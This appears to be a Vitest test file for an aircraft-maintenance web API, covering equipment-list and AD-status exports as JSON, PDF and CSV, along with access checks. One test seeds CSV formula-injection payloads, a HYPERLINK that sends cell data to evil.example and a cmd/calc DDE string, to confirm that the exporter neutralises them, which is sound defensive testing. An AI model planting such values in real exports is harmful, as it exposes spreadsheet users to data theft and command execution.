import type { AdStatusList, EquipmentList } from '@flugakte/domain'
import { describe, expect, it } from 'vitest'

import { ALL_AIRCRAFT } from '../../testing/demo-expectations'
import { demoWorld } from '../../testing/demo-world'
import { pdfText } from '../../testing/pdf-text'
import { bearer, rest } from '../../testing/rest'

const {
  payload,
  aircraft,
  token: { operator, club, maintenance },
} = await demoWorld({
  operator: 'operator@flugakte.test',
  club: 'operator-b@flugakte.test',
  maintenance: 'maintenance@flugakte.test',
})

const get = (token: string | null, path: string, language = 'de') =>
  rest(path, { headers: { ...(token ? bearer(token) : {}), 'Accept-Language': language } })

async function pdfOf(response: Response) {
  expect(response.status).toBe(200)
  expect(response.headers.get('content-type')).toBe('application/pdf')
  expect(response.headers.get('content-disposition')).toMatch(
    /^attachment; filename=".+\.pdf"; filename\*=UTF-8''.+\.pdf$/,
  )
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  return (await pdfText(new Uint8Array(await response.arrayBuffer()))).join('\n')
}

describe('GET /api/customer_aircrafts/:id/equipmentlist', () => {
  it('lists the installed equipment, and as PDF and CSV with the same content', async () => {
    const path = `/api/customer_aircrafts/${aircraft['D-EFAK']}/equipmentlist`
    const list = (await (await get(operator, path)).json()) as EquipmentList
    expect(list.aircraft.registration).toBe('D-EFAK')
    const stored = await payload.find({
      collection: 'equipment',
      where: { customer_aircraft: { equals: aircraft['D-EFAK'] } },
      pagination: false,
    })
    expect(list.data.map((item) => item.id).sort()).toEqual(stored.docs.map((doc) => doc.id).sort())
    expect(list.data.length).toBeGreaterThan(3)

    const text = await pdfOf(await get(operator, `${path}?download=true`))
    expect(text).toContain('D-EFAK')
    expect(text).toContain('Ausrüstungsliste')
    for (const item of list.data) {
      if (item.part_number) expect(text).toContain(item.part_number)
      if (item.serial_number) expect(text).toContain(item.serial_number)
    }
    expect(await pdfOf(await get(operator, `${path}?download=true`, 'en'))).toContain('Equipment list')

    const csvResponse = await get(operator, `${path}?download=true&format=csv`)
    expect(csvResponse.headers.get('content-type')).toContain('text/csv')
    const csv = await csvResponse.text()
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
    expect(lines).toHaveLength(list.data.length + 1)
    for (const item of list.data) expect(csv).toContain(item.item)
  })

  it('neutralises formula cells in the CSV and keeps negative numbers readable', async () => {
    const item = await payload.create({
      collection: 'equipment',
      data: {
        customer_aircraft: aircraft['D-EFAK'],
        item: '=HYPERLINK("http://evil.example/?"&A1,"Zertifikat")',
        part_number: "@SUM(1+1)*cmd|' /C calc'!A0",
        serial_number: '+49-1',
        manufacturer: '\t=1+1',
        quantity: 1,
        arm_m: -0.125,
        remarks: '-2+3',
      },
    })
    try {
      const response = await get(
        operator,
        `/api/customer_aircrafts/${aircraft['D-EFAK']}/equipmentlist?download=true&format=csv`,
      )
      expect(response.headers.get('content-disposition')).toBe(
        `attachment; filename="equipment-list-D-EFAK.csv"; filename*=UTF-8''equipment-list-D-EFAK.csv`,
      )
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      const line = (await response.text()).split('\r\n').find((row) => row.includes('HYPERLINK'))!
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Zertifikat"")"`)
      expect(line).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`)
      expect(line).toContain(`'+49-1`)
      expect(line).toContain(`'\t=1+1`)
      expect(line).toContain(`'-2+3`)
      expect(line).toContain(',-0.125,')
      // No cell of the file starts with a character a spreadsheet would run.
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/)
    } finally {
      await payload.delete({ collection: 'equipment', id: item.id })
    }
  })

  it('answers 404 for another company’s aircraft, also as download', async () => {
    for (const query of ['', '?download=true', '?download=true&format=csv']) {
      expect((await get(club, `/api/customer_aircrafts/${aircraft['D-EFAK']}/equipmentlist${query}`)).status).toBe(404)
      expect((await get(operator, `/api/customer_aircrafts/${aircraft['D-EKLU']}/equipmentlist${query}`)).status).toBe(
        404,
      )
    }
    expect(
      (await get(operator, `/api/customer_aircrafts/${aircraft['D-EFAK']}/equipmentlist?download=true&format=xls`))
        .status,
    ).toBe(400)
  })
})

describe('GET /api/app-files/ad', () => {
  it('lists the AD status of one aircraft and downloads it as a PDF with the same rows', async () => {
    const path = `/api/app-files/ad?customerAircraft=${aircraft['D-EXAB']}`
    const list = (await (await get(maintenance, path)).json()) as AdStatusList
    expect(list.data.map((row) => row.number)).toEqual(
      expect.arrayContaining(['2009-10-04', '2016-23-03', 'DEMO-2026-001']),
    )
    expect(list.data.every((row) => row.registration === 'D-EXAB')).toBe(true)
    const text = await pdfOf(await get(maintenance, `${path}&download=true`))
    expect(text).toContain('D-EXAB')
    expect(text).toContain('40.N312')
    for (const row of list.data) expect(text).toContain(row.number)
    const notApplicable = list.data.find((row) => row.status === 'not_applicable')!
    expect(text).toContain('nicht zutreffend')
    expect(text.replace(/\s+/g, ' ')).toContain(notApplicable.reason!.slice(0, 20))
  })

  it('lists by EASA type over the caller’s aircraft only', async () => {
    const mine = (await (await get(club, '/api/app-files/ad?easaTypeName=PA-28-181')).json()) as AdStatusList
    // Other test files add PA-28s of their own to the club; of the demo fleet only D-EKLU is one.
    const demo = new Set(
      mine.data.map((row) => row.registration).filter((registration) => ALL_AIRCRAFT.includes(registration)),
    )
    expect(demo).toEqual(new Set(['D-EKLU']))
    const none = (await (await get(operator, '/api/app-files/ad?easaTypeName=PA-28-181')).json()) as AdStatusList
    expect(none.data).toEqual([])
    const text = await pdfOf(await get(club, '/api/app-files/ad?easaTypeName=Piper%20PA-28&download=true'))
    expect(text).toContain('2020-24-02')
  })

  it('answers 404 for another company’s aircraft and 400 without an aircraft or type', async () => {
    expect((await get(operator, `/api/app-files/ad?customerAircraft=${aircraft['D-EKLU']}`)).status).toBe(404)
    expect((await get(operator, `/api/app-files/ad?customerAircraft=${aircraft['D-EKLU']}&download=true`)).status).toBe(
      404,
    )
    expect(
      (await get(operator, `/api/app-files/ad?customerAircraft=${aircraft['D-EFAK']}&easaTypeName=PA-28-181`)).status,
    ).toBe(404)
    const missing = await get(operator, '/api/app-files/ad')
    expect(missing.status).toBe(400)
    expect(((await missing.json()) as { errors: { message: string }[] }).errors[0].message).toContain(
      'customerAircraft',
    )
    expect((await get(operator, '/api/app-files/ad?customerAircraft=abc')).status).toBe(400)
    expect((await get(null, `/api/app-files/ad?customerAircraft=${aircraft['D-EFAK']}`)).status).toBe(403)
  })
})
